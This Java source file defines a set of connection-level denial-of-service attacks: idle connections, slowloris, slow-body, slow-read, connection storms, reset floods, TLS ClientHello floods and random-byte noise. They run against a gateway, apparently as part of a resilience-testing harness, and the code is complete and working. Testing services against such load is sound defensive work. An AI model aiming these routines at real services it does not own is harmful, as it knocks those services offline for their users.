package io.sluice.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;

/** What can be done with connections, and slowly. Stateless. */
final class ConnectionAttacks {

    private static final int SLOW = 2_000;
    private static final int BUSY = 32;
    /** Between steps: thousands a second in all, and not all of a machine that is shared with the victim. */
    private static final long BREATH_MILLIS = 1;

    private static final byte[] PIXEL =
            "GET /p.gif?k=demo&e=a HTTP/1.1\r\nHost: b.example\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

    private ConnectionAttacks() {}

    /** @param idle how many connections this machine can hold open for one process */
    static List<Attack> all(int idle) {
        return List.of(
                Attack.of("idle", String.format("%,d connections that say nothing", idle), field -> idle(field, idle)),
                Attack.of(
                        "slowloris",
                        "2,000 heads, a byte a second each",
                        field -> drip(field, "GET /p.gif?k=demo&e=a HTTP/1.1\r\nHost: b.example\r\nX-Slow: ")),
                Attack.of(
                        "slow-body",
                        "2,000 bodies, a byte a second each",
                        field -> drip(
                                field,
                                "POST /v1/events?k=demo HTTP/1.1\r\nHost: b.example\r\nContent-Length: 200000\r\n\r\n[")),
                Attack.of("slow-read", "200 clients that ask and ask, and read nothing", ConnectionAttacks::slowRead),
                Attack.of("connection-storm", "a new connection for each pixel", ConnectionAttacks::storm),
                Attack.of("connect-and-leave", "connections that are reset at once", ConnectionAttacks::leave),
                Attack.of("handshake-flood", "ClientHellos, and nothing behind", ConnectionAttacks::hello),
                Attack.of("random-bytes", "noise on both ports", ConnectionAttacks::noise));
    }

    private static void idle(Field field, int count) throws InterruptedException {
        List<Socket> sockets = new ArrayList<>();
        try {
            while (!field.isOver() && sockets.size() < count) {
                try {
                    sockets.add(field.connect());
                } catch (IOException e) {
                    field.pause(10);
                }
            }
            while (!field.isOver()) {
                field.pause(100);
            }
        } finally {
            for (Socket socket : sockets) {
                close(socket);
            }
        }
    }

    private static void drip(Field field, String begin) throws InterruptedException {
        field.swarm(SLOW, socket -> {
            Field.discard(socket);
            OutputStream out = socket.getOutputStream();
            out.write(begin.getBytes(StandardCharsets.US_ASCII));
            while (!field.isOver()) {
                field.pause(1_000);
                out.write('1');
            }
        });
    }

    private static void slowRead(Field field) throws InterruptedException {
        byte[] requests = new byte[100 * PIXEL.length];
        for (int i = 0; i < requests.length; i += PIXEL.length) {
            System.arraycopy(PIXEL, 0, requests, i, PIXEL.length);
        }
        field.swarm(200, field.port(), 1_024, socket -> {
            while (!field.isOver()) {
                // Blocks as soon as the gateway does not read any more.
                socket.getOutputStream().write(requests);
                field.pause(BREATH_MILLIS);
            }
        });
    }

    private static void storm(Field field) throws InterruptedException {
        field.swarm(BUSY, socket -> {
            socket.getOutputStream().write(PIXEL);
            if (socket.getInputStream().read() < 0) {
                throw new IOException("closed");
            }
        });
    }

    private static void leave(Field field) throws InterruptedException {
        field.swarm(BUSY, socket -> {
            socket.setSoLinger(true, 0);
            socket.getOutputStream().write(PIXEL, 0, 10);
            field.pause(BREATH_MILLIS);
        });
    }

    private static void hello(Field field) throws Exception {
        byte[] hello = clientHello();
        field.tlsSwarm(BUSY, socket -> {
            socket.getOutputStream().write(hello);
            // The server's part, which is what costs it something.
            if (socket.getInputStream().read() < 0) {
                throw new IOException("closed");
            }
        });
    }

    private static byte[] clientHello() throws GeneralSecurityException, IOException {
        SSLContext context = SSLContext.getInstance("TLS");
        context.init(null, null, null);
        SSLEngine engine = context.createSSLEngine("b.example", 443);
        engine.setUseClientMode(true);
        ByteBuffer hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
        engine.wrap(ByteBuffer.allocate(0), hello);
        byte[] bytes = new byte[hello.flip().remaining()];
        hello.get(bytes);
        return bytes;
    }

    private static void noise(Field field) throws InterruptedException {
        Field.Client client = socket -> {
            Field.discard(socket);
            byte[] noise = new byte[4096];
            for (int i = 0; i < 16 && !field.isOver(); i++) {
                ThreadLocalRandom.current().nextBytes(noise);
                socket.getOutputStream().write(noise);
                field.pause(BREATH_MILLIS);
            }
        };
        Thread tls = Thread.ofVirtual().start(() -> {
            try {
                field.tlsSwarm(BUSY / 2, client);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        });
        field.swarm(BUSY / 2, client);
        tls.join();
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // It is closed, one way or another.
        }
    }
}
